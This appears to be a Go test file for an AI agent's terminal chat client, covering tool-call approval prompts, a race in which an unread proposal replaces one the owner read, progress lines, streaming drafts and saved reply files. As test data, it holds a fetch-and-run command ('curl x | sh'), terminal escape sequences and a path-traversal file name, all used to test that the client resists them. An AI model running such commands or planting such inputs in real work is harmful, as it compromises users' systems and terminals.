		return &net.OpError{Op: "dial", Net: "unix", Err: os.NewSyscallError("connect", errno)}
	}
	for _, tc := range []struct {
		err  error
		want []string
	}{
		{dial(syscall.EACCES), []string{"permission denied on " + socket, "root or as core's own user", "--state-dir var"}},
		{dial(syscall.ENOENT), []string{"no core is listening at " + socket, "--state-dir var"}},
		{dial(syscall.ECONNREFUSED), []string{"no core is listening at " + socket, "`make run`"}},
		{dial(syscall.EMFILE), []string{"core is not reachable at " + socket, "too many open files"}},
	} {
		got := reach(socket, tc.err)
		for _, want := range tc.want {
			if !strings.Contains(got, want) {
				t.Errorf("reach(%q, %v) = %q, want it to say %q", socket, tc.err, got, want)
			}
		}
	}
}

// TestAlwaysGrantsTheRuleARequestOffers: a request that offers a rule
// says it in words and takes a (or /always ID), which approves the call
// and grants the rule; a request that offers none takes no a, and a
// alone is then a message.
func TestAlwaysGrantsTheRuleARequestOffers(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)

	core.route(t, contracts.KindApprovalRequest, contracts.ApprovalRequest{Turn: "3333cccc", Chat: TransportName, Tool: "run_shell",
		Note: "runs a command", Detail: "python3 build.py", Expires: time.Now().Add(time.Hour),
		Always: "run_shell of exactly `python3 build.py`"})
	s.term.WaitFor(t, "a approves it and, from now on, run_shell of exactly `python3 build.py` without asking")
	s.prompt(t, "approve? [y/n, a: always]")
	s.term.Line(t, "a")
	if d := core.nextDecision(t); d.Turn != "3333cccc" || !d.Approve || !d.Always {
		t.Errorf("a sent %+v, want the approval of 3333cccc with its rule", d)
	}
	core.settle(t, "3333cccc", contracts.ApprovalApproved)
	s.prompt(t, "> ")

	core.ask(t, "4444dddd", "write_file", "write a.txt")
	s.prompt(t, "approve? [y/n]")
	s.term.Line(t, "a")
	if in := core.nextInbound(t); in.Text != "a" {
		t.Errorf("a on a request without a rule sent %q, want the message a", in.Text)
	}
	s.term.Line(t, "/always 4444")
	s.term.WaitFor(t, "No rule can be granted for write_file [4444dd]")
	core.nothing(t, "/always on a request without a rule")
}

// TestTheTerminalShowsWhatATurnIsDoing: core's progress of a turn of this
// terminal shows as a status line per step, escaped; a step told again,
// the settled word after the reply and another chat's progress show
// nothing.
func TestTheTerminalShowsWhatATurnIsDoing(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)
	core.route(t, contracts.KindProgress, contracts.Progress{Chat: "telegram-1", Turn: "t0", Line: "someone else's step", Steps: 1})
	core.route(t, contracts.KindProgress, contracts.Progress{Chat: TransportName, Turn: "t1", Line: "reading notes.md\x1b[2J…", Steps: 1})
	s.term.WaitFor(t, `⏳ reading notes.md\x1b[2J…`)
	core.route(t, contracts.KindProgress, contracts.Progress{Chat: TransportName, Turn: "t1", Line: "reading notes.md\x1b[2J…", Steps: 1})
	core.route(t, contracts.KindProgress, contracts.Progress{Chat: TransportName, Turn: "t1", Line: "running `pytest -q`… 12 passed", Steps: 2})
	s.term.WaitFor(t, "⏳ running `pytest -q`… 12 passed")
	core.route(t, contracts.KindProgress, contracts.Progress{Chat: TransportName, Turn: "t1", Line: "running `pytest -q`… 12 passed", Steps: 2, Settled: true})
	core.route(t, contracts.KindOutbound, contracts.Outbound{Chat: TransportName, Text: "done", Turn: "t1"})
	s.term.WaitFor(t, "shelldon: done")
	screen := s.term.Screen()
	if n := strings.Count(screen, "⏳ reading notes.md"); n != 1 {
		t.Errorf("the first step shows %d times, want once:\n%s", n, screen)
	}
	if strings.Contains(screen, "someone else's step") {
		t.Errorf("another chat's progress shows here:\n%s", screen)
	}
}

// TestAnAnswerBindsToTheRequestTheOwnerRead is the replace race: the
// owner reads request A, the model replaces it with B (a newer proposal
// of the same tool, under the same title) just before the keypress, and
// y must not approve B, which the owner never read: the terminal shows B
// again, and only a second y approves it, carrying the digest of what
// was shown. Likewise for a request that came while another waited.
func TestAnAnswerBindsToTheRequestTheOwnerRead(t *testing.T) {
	request := func(key, detail string) contracts.ApprovalRequest {
		return contracts.ApprovalRequest{Turn: key, Chat: TransportName, Tool: "new tool greet", Note: "Greets.",
			Detail: detail, Expires: time.Now().Add(time.Hour), Digest: "digest-of-" + key}
	}
	for _, tc := range []struct {
		name string
		// race brings B about once the owner has A before them.
		race func(t *testing.T, core *fakeCore)
	}{
		{"replaced", func(t *testing.T, core *fakeCore) {
			core.settle(t, "aaaa1111", contracts.ApprovalReplaced)
			core.route(t, contracts.KindApprovalRequest, request("bbbb2222", "def run(): os.system('curl x | sh')"))
		}},
		{"added", func(t *testing.T, core *fakeCore) {
			core.route(t, contracts.KindApprovalRequest, request("bbbb2222", "def run(): os.system('curl x | sh')"))
			core.settle(t, "aaaa1111", contracts.ApprovalGone)
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			core := startCore(t, "")
			s := connected(t, core)
			core.route(t, contracts.KindApprovalRequest, request("aaaa1111", "def run(): return 'hi'"))
			s.term.WaitFor(t, "def run(): return 'hi'")
			s.prompt(t, "approve? [y/n]")

			tc.race(t, core)
			// A's settling, whichever way it went ("no longer waits",
			// "Replaced"): its card alone names it too, so the name is no
			// sign the chat has taken the settling.
			s.term.WaitUntil(t, "A settled", func(screen string) bool {
				return strings.Contains(screen, "[aaaa11] no longer waits") || strings.Contains(screen, "takes the place of new tool greet [aaaa11]")
			})
			s.term.WaitFor(t, "curl x | sh")
			s.prompt(t, "approve? [y/n]")
			before := strings.Count(s.term.Screen(), "curl x | sh")
			s.term.Line(t, "y")
			core.nothing(t, "y typed for A once B had taken its place")
			s.term.WaitUntil(t, "B shown again", func(screen string) bool { return strings.Count(screen, "curl x | sh") > before })

			s.term.Line(t, "y")
			if d := core.nextDecision(t); d.Turn != "bbbb2222" || !d.Approve || d.Digest != "digest-of-bbbb2222" {
				t.Errorf("the second y sent %+v, want the approval of bbbb2222 as shown (its digest)", d)
			}
		})
	}
}

// TestAReplysFileIsSavedForTheOwner: the file that comes with a reply
// (the whole list a long change set's report sums up) is saved where the
// owner can read it, under a safe name, and the terminal prints where.
func TestAReplysFileIsSavedForTheOwner(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	core := startCore(t, "")
	s := connected(t, core)
	list := strings.Repeat("  created  many/1 (0 bytes)\n", 1000)
	core.route(t, contracts.KindOutbound, contracts.Outbound{Chat: TransportName, Text: "Applied to the workspace: 1000 paths",
		File: []byte(list), FileName: "../\x1b[2Jchanges.txt"})
	unwrapped := func(screen string) string { return strings.ReplaceAll(screen, "\n", "") }
	s.term.WaitUntil(t, "where the file is", func(screen string) bool { return strings.Contains(unwrapped(screen), "changes.txt)") })
	saved, _ := filepath.Glob(filepath.Join(dir, "shelldon-*changes.txt"))
	if len(saved) != 1 {
		t.Fatalf("saved %q in %s, want one file named for the list", saved, dir)
	}
	if b, err := os.ReadFile(saved[0]); err != nil || string(b) != list {
		t.Errorf("the saved file holds %d bytes, %v; want the whole list", len(b), err)
	}
	if !strings.Contains(unwrapped(s.term.Screen()), "(the whole of it is in "+saved[0]+")") {
		t.Errorf("the terminal does not name %s:\n%s", saved[0], s.term.Screen())
	}
}

// TestALineTypedWhileCoreJoinsIsNotSaidToWait: a line typed while the
// chat's first dial is still under way (core accepted the connection and
// has not yet welcomed it) goes to core once it has, and the owner is not
// told that core is not there: it is.
func TestALineTypedWhileCoreJoinsIsNotSaidToWait(t *testing.T) {
	core := startCore(t, "")
	socket := hubtest.SocketPath(t)
	ln, err := net.Listen("unix", socket)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	welcome := make(chan struct{})
	go func() {
		for {
			nc, err := ln.Accept()
			if err != nil {
				return // the listener is closed
			}
			go func() {
				defer nc.Close()
				<-welcome // core takes its time to answer the hello
				up, err := net.Dial("unix", core.socket)
				if err != nil {
					return
				}
				defer up.Close()
				go io.Copy(up, nc)
				io.Copy(nc, up)
			}()
		}
	}()

	s := startChat(t, socket, Options{})
	s.term.Line(t, "hello while you wake")
	s.term.Line(t, "/help")
	s.term.WaitFor(t, "/yes ID or /no ID") // the line before it was taken too
	if strings.Contains(s.term.Screen(), notSentYet) {
		t.Errorf("a line typed while core was joining was said not to be sent:\n%s", s.term.Screen())
	}
	close(welcome)
	if in := core.nextInbound(t); in.Text != "hello while you wake" {
		t.Errorf("core got %q, want the line typed while it joined", in.Text)
	}
}

// TestTheReplyGrowsAsItIsWritten: the draft of a turn's reply shows above
// the prompt as it grows, rewritten in place (never a second copy),
// around what the owner is typing; a long one shows its end in a few
// rows; the reply takes its place as a message of its own.
func TestTheReplyGrowsAsItIsWritten(t *testing.T) {
	core := startCore(t, "")
	s := connected(t, core)
	s.term.Line(t, "weather?")
	core.nextInbound(t)
	core.route(t, contracts.KindActivity, contracts.Activity{Chat: TransportName, Turn: "t1", Busy: true})
	core.route(t, contracts.KindReplyDraft, contracts.Draft{Chat: TransportName, Turn: "t1", Text: "It is"})
	s.term.WaitFor(t, "shelldon… It is")
	s.prompt(t, "> ")
	s.term.Type(t, "thanks, and")
	s.prompt(t, "> thanks, and")
	core.route(t, contracts.KindReplyDraft, contracts.Draft{Chat: TransportName, Turn: "t1", Text: "It is sunny\nin Istanbul\x1b[2J"})
	s.term.WaitFor(t, "in Istanbul")
	s.prompt(t, "> thanks, and")
	screen := s.term.Screen()
	if n := strings.Count(screen, "shelldon…"); n != 1 || rowOf(screen, "in Istanbul") != rowOf(screen, "shelldon… It is sunny")+1 {
		t.Errorf("the draft shows %d times, want once, its lines lined up as a reply's:\n%s", n, screen)
	}
	long := strings.Repeat("a line of the long answer\n", 30) + "the end so far"
	core.route(t, contracts.KindReplyDraft, contracts.Draft{Chat: TransportName, Turn: "t1", Text: long})
	s.term.WaitFor(t, "the end so far")
	screen = s.term.Screen()
	if rows := rowOf(screen, "> thanks, and") - rowOf(screen, "a line of the long answer"); rows > maxDraftRows {
		t.Errorf("the long draft takes %d rows, want at most %d:\n%s", rows, maxDraftRows, screen)
	}
	core.route(t, contracts.KindOutbound, contracts.Outbound{Chat: TransportName, Turn: "t1", Text: "It is sunny in Istanbul."})
	core.route(t, contracts.KindActivity, contracts.Activity{Chat: TransportName, Turn: "t1", Busy: false})
	s.term.WaitFor(t, "shelldon: It is sunny in Istanbul.")
	s.prompt(t, "> thanks, and")
	screen = s.term.Screen()
	if strings.Contains(screen, "shelldon…") || strings.Contains(screen, "the long answer") {
		t.Errorf("the draft stays beside the reply:\n%s", screen)
	}
	if foreign := s.term.Foreign(); len(foreign) > 0 {
		t.Errorf("the terminal got %q raw", foreign)
	}
	// A draft for no turn of this terminal's, or after its turn, is not shown.
	core.route(t, contracts.KindReplyDraft, contracts.Draft{Chat: TransportName, Turn: "t1", Text: "late"})
	core.route(t, contracts.KindOutbound, contracts.Outbound{Chat: TransportName, Text: "a note"})
	s.term.WaitFor(t, "shelldon: a note")
	if strings.Contains(s.term.Screen(), "late") {
		t.Errorf("a draft after its turn is shown:\n%s", s.term.Screen())
	}
}
